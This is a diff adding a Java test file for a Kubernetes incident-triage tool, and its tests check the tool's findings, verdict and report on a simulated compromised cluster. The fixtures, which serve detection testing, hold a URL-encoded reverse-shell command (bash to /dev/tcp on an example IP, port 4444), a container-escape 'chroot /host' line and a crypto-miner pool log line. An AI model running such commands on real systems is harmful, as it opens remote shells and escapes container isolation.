@@ -1,0 +1,206 @@
+package org.ephemera.analyze.cluster;
+
+import static org.assertj.core.api.Assertions.assertThat;
+import static org.ephemera.analyze.cluster.ShopCluster.A;
+import static org.ephemera.analyze.cluster.ShopCluster.B;
+
+import com.fasterxml.jackson.databind.node.ObjectNode;
+import java.io.ByteArrayOutputStream;
+import java.nio.charset.StandardCharsets;
+import java.nio.file.Path;
+import java.util.List;
+import java.util.Map;
+import java.util.Optional;
+import java.util.TreeMap;
+import org.ephemera.analyze.Analysis;
+import org.ephemera.analyze.Triage;
+import org.ephemera.analyze.model.Fact;
+import org.ephemera.analyze.model.Finding;
+import org.ephemera.analyze.model.Gap;
+import org.ephemera.analyze.model.TimelineEntry;
+import org.ephemera.analyze.model.Verdict;
+import org.ephemera.analyze.model.Workload;
+import org.ephemera.analyze.read.SealedPackage;
+import org.ephemera.analyze.testing.FixtureAnswer;
+import org.ephemera.analyze.testing.FixtureCalls;
+import org.ephemera.analyze.testing.SealedFixture;
+import org.ephemera.bag.Json;
+import org.ephemera.report.Report;
+import org.junit.jupiter.api.Test;
+import org.junit.jupiter.api.io.TempDir;
+
+/** What a package of a cluster says, read as the sources of Kubernetes write it. */
+class ClusterPackageTest {
+    private static final String MINER = "2026-11-26T12:11:00.000000001Z net      use pool pool.example:3333  TLSv1.3\n";
+    private static final String CHROOT = "2026-11-26T11:53:20.123456789Z + chroot /host /bin/bash\n";
+    private static final String QUIET = "2026-11-26T12:13:00.000000001Z checkout 1.8 listens on 8080\n";
+    private static final String SHELL =
+            "command=bash&command=-c&command=bash+-i+%3E%26+%2Fdev%2Ftcp%2F203.0.113.9%2F4444+0%3E%261";
+
+    @TempDir
+    private Path folder;
+
+    private final Map<String, ByteArrayOutputStream> written = new TreeMap<>();
+
+    private Analysis analyzed(SealedFixture fixture) throws Exception {
+        try (SealedPackage sealed = fixture.seal()) {
+            Analysis analysis = Triage.analyze(
+                    sealed,
+                    new Triage.Options(Optional.empty(), List.of(), true),
+                    name -> written.computeIfAbsent(name, none -> new ByteArrayOutputStream()));
+            Report.write(analysis, name -> written.computeIfAbsent(name, none -> new ByteArrayOutputStream()));
+            return analysis;
+        }
+    }
+
+    private String text(String file) {
+        return written.getOrDefault(file, new ByteArrayOutputStream()).toString(StandardCharsets.UTF_8);
+    }
+
+    private static SealedFixture whole(Path folder) throws Exception {
+        SealedFixture fixture = ShopCluster.in(folder);
+        ShopCluster.log(
+                fixture, "kubernetes.log", ShopCluster.container(A, "pod-a", "checkout"), CHROOT, CHROOT + QUIET);
+        ShopCluster.log(fixture, "kubernetes.log", ShopCluster.container(B, "pod-b", "checkout"), QUIET);
+        ShopCluster.log(fixture, "kubernetes.previous-log", ShopCluster.container(B, "pod-b", "checkout"), MINER);
+        ObjectNode page = Json.object();
+        for (String stage : List.of("RequestReceived", "ResponseStarted", "ResponseComplete")) {
+            ObjectNode event = ShopCluster.exec("a-1", A, SHELL);
+            event.put("stage", stage);
+            page.withArray("events").addObject().put("timestamp", 1).put("message", FixtureCalls.text(event));
+        }
+        return fixture.item(
+                "aws.eks.audit",
+                Map.of("cluster", "shop"),
+                FixtureAnswer.json("logs:FilterLogEvents", FixtureCalls.text(page)));
+    }
+
+    @Test
+    void itsOwnPodsAreJudgedAndTheOthersAreNamed() throws Exception {
+        Analysis analysis = analyzed(whole(folder));
+        assertThat(analysis.workloads()).extracting(Workload::name).containsExactly("shop/" + A, "shop/" + B);
+        Workload escaped = analysis.workloads().getFirst();
+        assertThat(escaped.hosts()).singleElement().satisfies(host -> {
+            assertThat(host.id().value()).isEqualTo("i-0a1b2c3d4e5f60718");
+            assertThat(host.volumes()).extracting(Fact::value).containsExactly("vol-0123456789abcdef0");
+            assertThat(host.tenants())
+                    .extracting(Fact::value)
+                    .containsExactlyInAnyOrder("shop/catalog-5c-z9", "payments/ledger-0");
+        });
+        assertThat(analysis.findings()).extracting(Finding::subject).noneMatch(subject -> subject.contains("catalog"));
+        assertThat(escaped.exposure().secrets())
+                .extracting(Fact::value)
+                .containsExactlyInAnyOrder("checkout-tls", "checkout-db", "metrics-token", "migrate-db", "registry");
+        assertThat(escaped.exposure().policies())
+                .extracting(Fact::value)
+                .anyMatch(words -> words.contains("no policy restricts its egress"));
+        assertThat(text("report.html"))
+                .contains("Secrets in use", "payments/ledger-0", "no policy restricts its egress");
+    }
+
+    @Test
+    void theVerdictRestsOnWhatOneOfThemWrote() throws Exception {
+        Verdict verdict = analyzed(whole(folder)).verdict();
+        assertThat(verdict.answer()).isEqualTo(Verdict.Answer.IMAGE_HOST);
+        assertThat(verdict.confidence()).isEqualTo(Verdict.Confidence.LIKELY);
+        assertThat(verdict.because())
+                .extracting(Fact::value)
+                .anyMatch(words -> words.startsWith("CMD-006 shop/" + A + "/checkout: ") && words.contains("chroot"));
+        assertThat(verdict.containment().toString())
+                .contains("i-0a1b2c3d4e5f60718", "vol-0123456789abcdef0", "checkout-db");
+    }
+
+    @Test
+    void rulesFindWhatTheyAreFor() throws Exception {
+        Analysis analysis = analyzed(whole(folder));
+        assertThat(found(analysis, "LOG-001")).singleElement().satisfies(miner -> {
+            assertThat(miner.subject()).isEqualTo("shop/" + B + "/checkout (before its restart)");
+            assertThat(miner.evidence().getFirst().file()).startsWith("data/raw/kubernetes.previous-log.");
+        });
+        assertThat(found(analysis, "STA-001")).singleElement().satisfies(loop -> {
+            assertThat(loop.subject()).isEqualTo("shop/" + B + "/checkout");
+            assertThat(loop.because()).contains("restarted 7 times", "made to wait");
+        });
+        assertThat(found(analysis, "STA-002"))
+                .extracting(Finding::because)
+                .containsExactly("killed for want of memory: OOMKilled");
+        assertThat(found(analysis, "EXE-001")).singleElement().satisfies(exec -> {
+            assertThat(exec.subject()).isEqualTo("shop/" + A + "/checkout");
+            assertThat(exec.because())
+                    .startsWith("jane@shop.example by get pods/exec: bash -c bash -i >& /dev/tcp/203.0.113.9/4444");
+        });
+        assertThat(analysis.findings())
+                .extracting(finding -> finding.rule().id())
+                .contains("ESC-001", "ESC-003", "ESC-019", "ESC-023", "ESC-033", "CMD-003", "DRF-004", "DRF-007");
+        assertThat(found(analysis, "ESC-019")).extracting(Finding::because).allMatch(why -> why.contains("everything"));
+        assertThat(analysis.changes())
+                .anyMatch(change -> change.subject().equals("shop/Deployment/checkout")
+                        && change.reference().equals("revision 1 (checkout-59c)")
+                        && change.what().equals("/containers/checkout/image")
+                        && change.before().endsWith(":1.7")
+                        && change.after().endsWith(":1.8"));
+    }
+
+    /** A line that was asked for twice was written once; so was an event that two APIs and a list of the namespace tell. */
+    @Test
+    void whatIsToldTwiceStandsOnce() throws Exception {
+        Analysis analysis = analyzed(whole(folder));
+        assertThat(found(analysis, "CMD-006"))
+                .singleElement()
+                .extracting(Finding::because)
+                .asString()
+                .doesNotContain("2 lines");
+        assertThat(analysis.timeline())
+                .filteredOn(entry -> entry.message().startsWith("BackOff: "))
+                .extracting(TimelineEntry::message)
+                .containsExactly(
+                        "BackOff: Back-off restarting failed container checkout (first of 23)",
+                        "BackOff: Back-off restarting failed container checkout (last of 23)");
+        assertThat(analysis.timeline())
+                .extracting(TimelineEntry::message)
+                .contains("ClusterRoleBinding is created", "Update of Deployment");
+        assertThat(text("logs/index.csv")).contains("shop/" + A + "/checkout,2");
+    }
+
+    private static List<Finding> found(Analysis analysis, String rule) {
+        return analysis.findings().stream()
+                .filter(finding -> finding.rule().id().equals(rule))
+                .toList();
+    }
+
+    /** The kubelet answers 200 with its own words where it has no log. */
+    @Test
+    void wordsOfTheKubeletAreNoLog() throws Exception {
+        SealedFixture fixture = ShopCluster.in(folder);
+        ShopCluster.log(
+                fixture,
+                "kubernetes.log",
+                ShopCluster.container(A, "pod-a", "checkout"),
+                "unable to retrieve container logs for containerd://c1");
+        ShopCluster.log(
+                fixture,
+                "kubernetes.log",
+                ShopCluster.container(B, "pod-b", "checkout"),
+                "2026-11-26T12:13:00.000000001Z unable to retrieve container logs for containerd://c1\n");
+        Analysis analysis = analyzed(fixture);
+        assertThat(analysis.gaps())
+                .filteredOn(gap -> gap.why().contains("the kubelet says there"))
+                .singleElement()
+                .extracting(Gap::what)
+                .isEqualTo("kubernetes.log.1");
+        assertThat(text("logs/index.csv")).contains("shop/" + B + "/checkout,1").doesNotContain(A);
+    }
+
+    @Test
+    void whatMayNotBeReadIsSaid() throws Exception {
+        SealedFixture fixture = ShopCluster.in(folder);
+        ShopCluster.denied(fixture, "kubernetes.log", ShopCluster.container(A, "pod-a", "checkout"), "get pods/log");
+        Analysis analysis = analyzed(fixture);
+        assertThat(analysis.gaps())
+                .extracting(Gap::what, Gap::why)
+                .anyMatch(
+                        gap -> gap.toString().contains("LOG") && gap.toString().contains("get pods/log"))
+                .anyMatch(gap ->
+                        gap.toString().contains("EXE-001") && gap.toString().contains("no audit log of the cluster"));
+    }
+}
